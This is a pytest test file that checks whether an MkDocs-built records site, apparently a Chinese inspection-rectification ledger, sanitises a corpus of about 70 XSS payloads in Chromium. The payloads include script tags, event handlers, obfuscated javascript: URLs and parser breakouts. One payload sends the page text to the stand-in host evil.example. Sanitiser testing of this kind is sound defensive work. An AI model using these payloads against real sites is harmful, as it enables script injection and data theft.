"""An attacker's corpus against a real site in a real browser.

Each payload is the body of its own record (fields, the round title and a
folder name carry more), the sample ledger is built with the real
`mkdocs build`, served without any CSP header and opened in Debian's
Chromium. A dialog trap, a console trap and request interception watch
every page while it loads, while focus moves and while every element of
the record text is clicked: nothing may fire, and nothing may be requested
from another host.
"""

from __future__ import annotations

import re
import subprocess
import sys
from urllib.parse import urlsplit

import pytest

from browsing import Server, require_chromium
from conftest import copy_project, env
from sitecheck import fetched_urls, is_off_site, soup

require_chromium()

EVIL = "evil.example"
# (payload number, record body); each runnable payload reports its number
# through alert(), console.log('pwned-N') or a request to evil.example.
PAYLOADS = [
    # raw HTML: script, handlers, frames, objects, forms
    (1, "<script>alert(1)</script>"),
    (2, "<img src=x onerror=alert(2)>"),
    (3, "<svg onload=alert(3)>"),
    (4, "<svg><script>alert(4)</script></svg>"),
    (5, "<math><mtext><table><mglyph><style><img src=x onerror=alert(5)>"),
    (6, '<iframe src="javascript:alert(6)"></iframe>'),
    (7, '<iframe srcdoc="<script>alert(7)</script>"></iframe>'),
    (8, '<object data="javascript:alert(8)"></object>'),
    (9, '<embed src="javascript:alert(9)">'),
    (10, "<body onload=alert(10)>"),
    (11, "<details open ontoggle=alert(11)>x</details>"),
    (12, "<input autofocus onfocus=alert(12)>"),
    (13, '<form action="javascript:alert(13)"><button>提交</button></form>'),
    (14, "<svg><animate onbegin=alert(14) attributeName=x dur=1s>"),
    (15, "<marquee onstart=alert(15)>x</marquee>"),
    (16, '<img src=x onerror="console.log(\'pwned-16\')">'),
    (17, "<img src=x onerror=\"fetch('https://evil.example/17?'+document.body.innerText)\">"),
    # script URLs, plain and disguised as a browser would read them
    (20, '<a href="javascript:alert(20)">x</a>'),
    (21, '<a href="JaVaScRiPt:alert(21)">x</a>'),
    (22, '<a href="java&#9;script:alert(22)">x</a>'),
    (23, '<a href="java&NewLine;script:alert(23)">x</a>'),
    (24, '<a href="&#x6A;&#x61;vascript:alert(24)">x</a>'),
    (25, '<a href=" &#1;javascript:alert(25)">x</a>'),
    (26, '<a href="data:text/html,<script>alert(26)</script>">x</a>'),
    (27, '<a href="vbscript:msgbox(27)">x</a>'),
    (28, '<svg><a xlink:href="javascript:alert(28)"><text y="20">x</text></a></svg>'),
    (29, '<math href="javascript:alert(29)">x</math>'),
    (30, '<meta http-equiv="refresh" content="0;url=javascript:alert(30)">'),
    # comments and RCDATA/RAWTEXT elements hiding a tag in an attribute
    (31, "<!--><img src=x onerror=alert(31)>-->"),
    (32, "<!---><img src=x onerror=alert(32)>-->"),
    (33, '<textarea><img title="</textarea><img src=x onerror=alert(33)>"></textarea>'),
    (34, '<noscript><img title="</noscript><img src=x onerror=alert(34)>"></noscript>'),
    (35, '<xmp><img title="</xmp><img src=x onerror=alert(35)>"></xmp>'),
    (36, '<noembed><img title="</noembed><img src=x onerror=alert(36)>"></noembed>'),
    (37, '<noframes><img title="</noframes><img src=x onerror=alert(37)>"></noframes>'),
    (38, '<title><img title="</title><img src=x onerror=alert(38)>"></title>'),
    # off-site loads: images, media, srcset, poster, CSS, base, ping
    (40, '<img src="https://evil.example/40.png">'),
    (41, '<img srcset="https://evil.example/41.png 1x" src="a.png">'),
    (42, '<video poster="https://evil.example/42.png"><source src="https://evil.example/42.mp4"></video>'),
    (43, '<audio src="https://evil.example/43.mp3" autoplay></audio>'),
    (44, '<link rel="stylesheet" href="https://evil.example/44.css">'),
    (45, "<style>@import 'https://evil.example/45.css';</style>"),
    (46, '<div style="background:url(https://evil.example/46.png)">x</div>'),
    (47, '<base href="https://evil.example/">'),
    (48, '<img src="//evil.example/48.png">'),
    (49, '<img src="/\\evil.example/49.png">'),
    (50, '<img src="HTTPS://evil.example/50.png">'),
    (51, '<a href="https://evil.example/51" ping="https://evil.example/ping51">x</a>'),
    (52, "![外网图片](https://evil.example/52.png)"),
    # Markdown links and reference definitions
    (60, "[点我](javascript:alert(60))"),
    (61, "[点我](java&#9;script:alert(61))"),
    (62, "[点我](<javascript:alert(62)>)"),
    (63, "[点我](&#106;avascript:alert(63))"),
    (64, "[点我][r64]\n\n[r64]: javascript:alert(64)"),
    (65, "[点我][r65]\n\n[r65]: java&NewLine;script:alert(65)"),
    (66, "[点我][r66]\n\n[r66]: java\x01script:alert(66)"),
    (67, "[点我][r67]\n\n[r67]: <java\nscript:alert(67)>"),
    (68, "<javascript:alert(68)>"),
    (69, "![x][i69]\n\n[i69]: https://evil.example/69.png"),
    # attr_list: attributes added to record text
    (70, '![x](y.png){: onerror="alert(70)"}'),
    (71, '段落\n{: tabindex="0" autofocus onfocus="alert(71)"}'),
    (72, '## 标题 {: onmouseover="alert(72)" }'),
    (73, '[x](https://ok.example.internal/){: href="javascript:alert(73)"}'),
    (74, '段落\n{: onclick="alert(74)" style="position:fixed;inset:0"}'),
    (75, '![x](y.png){: src="https://evil.example/75.png"}'),
    # the comments the renderer marks its own HTML blocks and placeholders with
    (76, "<!--tz-block--><img src=x onerror=alert(76)><!--/tz-block-->"),
    (77, "<!--/tz-block--><!--tz-fragment:0--><script>alert(77)</script><!--tz-block-->"),
]
# Fields: escaped wherever they appear (pages, lists, report, meta, edit link).
FIELD_PAYLOADS = {
    "title": "<img src=x onerror=alert(80)>",
    "unit": 'x" onmouseover="alert(81)',
    "owner": "<script>alert(82)</script>",
    "progress": "<svg onload=alert(83)>",
    "evidence": "<img src=x onerror=alert(84)>",
    "round": "<img src=x onerror=alert(85)>",
    "folder": 'x" autofocus onfocus="alert(86)',
    "control": "控制\x7f字符<img src=x onerror=alert(87)>",
}


def _cause(number: int, body: str) -> str:
    return f"---\n编号: YY-{100 + number:03d}\n类别: 原因剖析\n标题: 载荷 {number}\n轮次: LC-001\n---\n\n{body}\n"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    root = copy_project(tmp_path_factory.mktemp("xss") / "p")
    for number, body in PAYLOADS:
        (root / "records/causes" / f"YY-{100 + number:03d}.md").write_text(_cause(number, body), encoding="utf-8")
    folder = root / "records" / FIELD_PAYLOADS["folder"]
    folder.mkdir()
    measure = (root / "records/measures/CS-003.md").read_text(encoding="utf-8")
    measure = (measure.replace("标题: 统筹兼顾", f"标题: '{FIELD_PAYLOADS['title']}'")
               .replace("责任人: 李某某", f"责任人: '{FIELD_PAYLOADS['owner']}'")
               .replace("内容: 结合选人用人专项检查反馈", f"内容: {FIELD_PAYLOADS['progress']}结合选人用人专项检查反馈"))
    measure = measure.replace("\n---\n", f"\n佐证材料:\n  - '{FIELD_PAYLOADS['evidence']}'\n---\n", 1)
    measure = re.sub(r"责任单位: .*", f"责任单位: '{FIELD_PAYLOADS['unit']}'", measure, count=1)
    (root / "records/measures/CS-003.md").unlink()
    (folder / "CS-003.md").write_text(measure, encoding="utf-8")
    rnd = root / "records/rounds/LC-001.md"
    rnd.write_text(rnd.read_text(encoding="utf-8").replace(
        "标题: 十一届省委第三轮巡视", f"标题: '十一届省委第三轮巡视{FIELD_PAYLOADS['round']}'"), encoding="utf-8")
    cause = root / "records/causes/YY-001.md"
    cause.write_text(cause.read_text(encoding="utf-8").replace("\n标题: ", f"\n标题: {FIELD_PAYLOADS['control']}", 1),
                     encoding="utf-8")
    # Not --strict: the checker rightly warns (and errs on the control character).
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-d", "site"], cwd=root, env=env(),
                            capture_output=True, text=True, timeout=900)
    assert result.returncode == 0, result.stderr
    assert "(unsafe-html)" in result.stderr and "(control-char)" in result.stderr
    return root, root / "site"


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 40
    assert len({n for n, _ in PAYLOADS}) == len(PAYLOADS)


def _pages(site):
    pages = [f"causes/YY-{100 + n:03d}/" for n, _ in PAYLOADS]
    return pages + ["", "measures/CS-003/", "causes/YY-001/", "rounds/LC-001/", "report/", "lists/problems/",
                    "lists/tasks/", "lists/responsibility/", "trace/", "causes/", "measures/"]


def test_nothing_fires_and_nothing_leaves_the_site(browser, hostile_site):
    _, site = hostile_site
    server = Server(site)
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN")
    fired, off_site, problems = [], [], []

    def intercept(route):
        url = route.request.url
        if urlsplit(url).netloc != urlsplit(server.origin).netloc and not url.startswith(("data:", "blob:")):
            off_site.append(url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", intercept)
    page = context.new_page()
    page.on("dialog", lambda d: (fired.append(f"dialog {d.message}"), d.dismiss()))
    page.on("console", lambda m: "pwned" in m.text and fired.append(f"console {m.text}"))
    page.on("popup", lambda p: fired.append(f"popup {p.url}"))
    try:
        for path in _pages(site):
            response = page.goto(server.origin + "/" + path)
            assert response.status == 200, path
            assert "content-security-policy" not in {k.lower() for k in response.headers}
            if page.locator("meta[http-equiv]").count():
                problems.append((path, "meta http-equiv"))
            page.keyboard.press("Tab")
            page.keyboard.press("Tab")
            found = page.evaluate(_PROBE)
            problems.extend((path, kind, found[kind]) for kind in ("handlers", "badLinks", "foreign") if found[kind])
            page.evaluate(_CLICK_ALL)
            page.wait_for_timeout(150)
            if not page.url.startswith(server.origin):
                problems.append((path, "navigated", page.url))
        assert fired == [], fired
        assert off_site == [], off_site
        assert problems == [], problems
    finally:
        context.close()
        server.close()


# In the page: handler or style attributes anywhere in the article, links whose
# scheme the browser reads as anything but http(s)/mailto, SVG/MathML/frames.
_PROBE = """() => {
  const article = document.querySelector('article') || document.body;
  const handlers = [], badLinks = [], foreign = [];
  for (const el of article.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on') || (attr.name === 'style' && el.closest('.tz-body'))) {
        handlers.push(el.tagName + ' ' + attr.name);
      }
    }
    if (/^(svg|math|iframe|object|embed|form|base|meta|link|style|script|video|audio|source)$/i.test(el.tagName)
        && el.closest('.tz-body')) foreign.push(el.tagName);
  }
  for (const a of article.querySelectorAll('a[href]')) {
    if (!['http:', 'https:', 'mailto:'].includes(a.protocol)) badLinks.push(a.getAttribute('href'));
  }
  return {handlers, badLinks, foreign};
}"""

# Click every element of the record text that is not a real link (those
# navigate away, to checked http(s) addresses).
_CLICK_ALL = """() => {
  for (const el of document.querySelectorAll('.tz-body *')) {
    if (el.tagName === 'A' && el.hasAttribute('href')) continue;
    el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
    el.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
  }
}"""


def test_record_text_is_sanitised_in_the_built_html(hostile_site):
    _, site = hostile_site
    for number, _ in PAYLOADS:
        doc = soup(site / f"causes/YY-{100 + number:03d}/index.html")
        body = doc.select_one(".tz-body")
        assert body is not None, number
        for el in body.find_all(True):
            assert el.name in {"p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "table", "thead", "tbody",
                               "tr", "th", "td", "a", "img", "code", "pre", "blockquote", "strong", "em", "b",
                               "i", "del", "sup", "sub", "hr", "br", "div"}, (number, el.name)
            assert not [a for a in el.attrs if a.startswith("on") or a in ("style", "srcset", "poster", "srcdoc")]
            if el.name == "img":
                assert not is_off_site(el["src"]) and EVIL not in el["src"], number
            if el.name == "a" and el.get("href", "").startswith(("http", "HTTP", "//", "/\\")):
                assert el["rel"] == ["noopener", "noreferrer"], number
    # Off-site images became links the reader can follow.
    for number in (40, 50, 52):
        link = soup(site / f"causes/YY-{100 + number:03d}/index.html").select_one(".tz-body a")
        assert link is not None and f"{EVIL}/{number}.png" in link["href"], number
    offenders = [(p.relative_to(site).as_posix(), url) for p, url in fetched_urls(site) if is_off_site(url)]
    assert offenders == []


def _read(element) -> str:
    """The text as a reader sees it: the word joiner after "<" (markup.inert) is invisible."""
    return element.get_text().replace("\u2060", "")


def test_fields_are_text_everywhere(hostile_site):
    _, site = hostile_site
    measure = soup(site / "measures/CS-003/index.html")
    assert FIELD_PAYLOADS["title"] in _read(measure.h1)
    assert FIELD_PAYLOADS["title"] in _read(measure.title)
    edit = measure.select_one('a[href*="_edit"]')
    assert edit is not None and '"' not in edit["href"] and " " not in edit["href"]
    assert "x%22%20autofocus%20onfocus%3D%22alert%2886%29/CS-003.md" in edit["href"]
    report = soup(site / "report/index.html")
    assert FIELD_PAYLOADS["round"] in _read(report.h1)
    cause = soup(site / "causes/YY-001/index.html")
    assert "控制字符" in _read(cause.h1) and "\x7f" not in cause.title.get_text()
    assert "<img" in _read(cause.h1)


def test_report_docx_heading_holds_the_round_title_as_text(hostile_site):
    from docx import Document
    _, site = hostile_site
    document = Document(str(site / "downloads/report.docx"))
    title = next(p for p in document.paragraphs if "整改进展情况报告" in p.text)
    assert FIELD_PAYLOADS["round"] in title.text


@pytest.mark.parametrize("query", ["载荷", "onerror", "alert"])
def test_search_results_show_record_text_as_text(browser, hostile_site, query):
    """Material's search renders matches from the index: hostile titles and
    bodies there must stay text too."""
    _, site = hostile_site
    server = Server(site)
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN")
    fired, off_site = [], []
    context.route("**/*", lambda route: (off_site.append(route.request.url), route.abort())
                  if urlsplit(route.request.url).netloc != urlsplit(server.origin).netloc
                  and not route.request.url.startswith(("data:", "blob:")) else route.continue_())
    page = context.new_page()
    page.on("dialog", lambda d: (fired.append(d.message), d.dismiss()))
    try:
        page.goto(server.origin + "/")
        page.locator(".md-search__input").click()
        box = page.locator("input.md-search__input")
        box.fill(query)
        box.press("End")
        page.locator(".md-search-result__item").first.wait_for(timeout=20000)
        page.wait_for_timeout(500)
        results = page.locator(".md-search-result")
        assert query in results.inner_text()   # the hostile text is found, and shown as text
        assert results.locator("img, svg, script, iframe, [onerror], [onload]").count() == 0
        assert fired == [] and off_site == []
    finally:
        context.close()
        server.close()
